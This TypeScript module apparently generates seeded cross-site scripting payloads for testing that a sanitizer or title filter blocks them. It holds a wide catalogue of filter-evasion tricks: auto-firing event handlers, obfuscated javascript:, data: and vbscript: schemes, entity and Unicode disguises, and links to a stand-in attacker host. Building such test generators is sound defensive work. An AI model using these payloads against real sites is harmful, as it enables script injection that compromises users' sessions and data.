import { createRandom, type Random } from "../random.ts";
import { breakouts, EVIL_HOST, mutations, requests, scripts, templates, type Shape } from "./attack-shapes.ts";

/** One attempt to run a script or to ask another host. `code` is the script that must not run. */
export interface Attack {
  number: number;
  text: string;
}

const tags =
  "img svg video audio body iframe input details marquee object embed select textarea button p a b div table".split(
    " ",
  );
const handlers =
  "onload onerror onfocus onclick onmouseover ontoggle onstart onbegin onanimationstart onpageshow onpointerenter onwheel onauxclick onbeforetoggle onscrollsnapchange".split(
    " ",
  );
/** What makes a handler run without anyone doing anything. */
const triggers = [
  "src=x",
  "autofocus tabindex=0",
  "open",
  "data=x",
  "style=animation-name:x",
  "contenteditable",
  "srcset=x",
  "loop=1",
];
const blanks = [" ", "/", "\n", "\t", "\f", "\r\n", " / ", "  "];
const endings = [">", "/>", " >", "", ">x", "//", ">\u0000", "<"];
const quotes = ["", '"', "'"];
const between = ["=", " = ", "\n=\n", "=\t", "\u0000=", "=\u0001"];

/** `<svg/onload="...">` in its many spellings. */
const handlerShape: Shape = (code, random) => {
  const quote = random.pick(quotes);
  const parts = [
    random.pick(triggers),
    `${changeCase(random.pick(handlers), random)}${random.pick(between)}${quote}${entities(code, random)}${quote}`,
  ];
  const blank = random.pick(blanks);
  return `<${changeCase(random.pick(tags), random)}${blank}${random.sample(parts, 2).join(blank)}${random.pick(endings)}`;
};

const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<button formaction="${address}" form=f>x</button>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}//">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<area href="${address}">`,
  (address) => `<img src="${address}" lowsrc="${address}">`,
  (address) => `[x](${address})`,
];
const schemes: ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `\u00A0javascript:${code}`,
  (code) => `\u200Bjavascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `java&#10;script&#58;${code}`,
  (code) => `java&Tab;script&colon;${code}`,
  (code) => `&#x6a;avascript:${code}`,
  (code) => `&#0000106avascript:${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript:/*--></title></style></textarea></script>*/${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `data:text/html,&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  (code) => `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/&gt;`,
  (code) => `vbscript:${code}`,
  (code) => `blob:${code}`,
  (code) => `//${EVIL_HOST}/${code}`,
  (code) => `https:\\\\${EVIL_HOST}\\${code}`,
];
const addressShape: Shape = (code, random) => random.pick(places)(random.pick(schemes)(code));

/** Writes a shape in a way that a filter may read as something harmless. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => `Engineer ${text}`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&amp;lt;"),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "&#60").replaceAll(">", "&#x3E"),
  (text) => `\u202E${text}\u2066`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `<!--${text}-->`,
  (text) => `<b ${text} b>`,
  (text) => `\uD800${text}`,
  (text) => `<div><p><i>${text}`,
];

const families: readonly Shape[] = [
  handlerShape,
  handlerShape,
  addressShape,
  addressShape,
  ...[scripts, mutations, templates, breakouts, requests].map(
    (shapes): Shape =>
      (code, random) =>
        random.pick(shapes)(code, random),
  ),
];

/** Ways to show that code ran: each is seen from outside of the page. */
const codes = [(n: number) => `console.log(/xss-${n}/)`, (n: number) => `top.xss=${n}`, (n: number) => `alert(${n})`];

/** So many attacks, no two of the same shape; the same ones for the same seed. */
export function makeAttacks(count: number, seed = 1): Attack[] {
  const random = createRandom(seed);
  const attacks: Attack[] = [];
  const shapes = new Set<string>();
  while (attacks.length < count) {
    const number = attacks.length + 1;
    const code = random.pick(codes)(number);
    const family = families[attacks.length % families.length] ?? handlerShape;
    // Half of them undisguised: what is not hidden must not run either.
    const disguise = random.chance(0.5) ? (text: string) => text : random.pick(disguises);
    const text = disguise(family(code, random));
    const shape = text.replaceAll(code, "");
    if (text.length > LENGTH_MAX || shapes.has(shape)) continue;
    shapes.add(shape);
    attacks.push({ number, text });
  }
  return attacks;
}

/** Below the 500 characters of a title. */
const LENGTH_MAX = 480;

function changeCase(word: string, random: Random): string {
  const turned = [
    word,
    word.toUpperCase(),
    Array.from(word, (letter, index) => (index % 2 === 0 ? letter : letter.toUpperCase())).join(""),
  ];
  return random.pick(turned);
}

/** Code inside an attribute may be written in entities. */
function entities(code: string, random: Random): string {
  if (!random.chance(0.3)) return code;
  return Array.from(code, (letter) =>
    /[a-z]/.test(letter) && random.chance(0.4) ? `&#${letter.charCodeAt(0)};` : letter,
  ).join("");
}
